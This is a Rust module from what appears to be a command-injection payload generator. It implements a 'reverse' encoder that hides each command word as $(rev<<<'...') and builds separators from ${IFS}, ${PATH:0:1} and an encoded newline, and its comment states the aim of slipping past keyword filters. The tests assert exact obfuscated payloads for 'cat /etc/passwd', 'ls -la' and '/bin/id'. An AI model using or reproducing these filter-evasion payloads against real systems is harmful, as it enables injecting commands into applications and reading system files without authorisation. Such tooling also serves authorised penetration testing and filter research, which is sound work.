//! Variant 2: every non-path word reversed, undone at run time by `rev`.
//!
//! Keyword filters never see `cat` in `$(rev<<<'tac')`. Paths skip the
//! reversal and go through the path escaper instead.

use crate::encode::Encoder;
use crate::escape::{escape_path, TokenKind, NEWLINE, SEPARATOR};

pub struct ReverseEncoder;

impl Encoder for ReverseEncoder {
    fn name(&self) -> &'static str {
        "reverse"
    }

    fn label(&self) -> &'static str {
        "Variant 2"
    }

    fn encode(&self, tokens: &[String]) -> String {
        if tokens.is_empty() {
            return String::new();
        }

        let mut out = String::from(NEWLINE);
        for (i, tok) in tokens.iter().enumerate() {
            if TokenKind::of(tok) == TokenKind::Path {
                out.push_str(SEPARATOR);
                out.push_str(&escape_path(tok));
            } else {
                // Positional: only a leading rev segment skips the separator, paths never do.
                if i > 0 {
                    out.push_str(SEPARATOR);
                }
                out.push_str(&rev_substitution(tok));
            }
        }
        out
    }
}

fn rev_substitution(token: &str) -> String {
    let reversed: String = token.chars().rev().collect();
    format!("$(rev<<<'{reversed}')")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn enc(words: &[&str]) -> String {
        let tokens: Vec<String> = words.iter().map(|s| s.to_string()).collect();
        ReverseEncoder.encode(&tokens)
    }

    #[test]
    fn reverses_command_and_escapes_path() {
        let out = enc(&["cat", "/etc/passwd"]);
        assert!(out.contains("$(rev<<<'tac')"), "Got: {out}");
        assert!(out.contains(&escape_path("/etc/passwd")), "Got: {out}");
        assert_eq!(
            out,
            "${LS_COLORS:10:1}%0a$(rev<<<'tac')${IFS}${PATH:0:1}etc${PATH:0:1}passwd"
        );
    }

    #[test]
    fn flags_are_reversed_with_separator() {
        assert_eq!(
            enc(&["ls", "-la"]),
            "${LS_COLORS:10:1}%0a$(rev<<<'sl')${IFS}$(rev<<<'al-')"
        );
    }

    #[test]
    fn leading_path_keeps_separator() {
        assert_eq!(
            enc(&["/bin/id"]),
            "${LS_COLORS:10:1}%0a${IFS}${PATH:0:1}bin${PATH:0:1}id"
        );
    }

    #[test]
    fn separator_follows_position_not_output_suffix() {
        assert_eq!(
            enc(&["/x%0a", "id"]),
            "${LS_COLORS:10:1}%0a${IFS}${PATH:0:1}x%0a${IFS}$(rev<<<'di')"
        );
    }

    #[test]
    fn reverses_by_character() {
        assert_eq!(enc(&["héllo"]), "${LS_COLORS:10:1}%0a$(rev<<<'olléh')");
    }
}
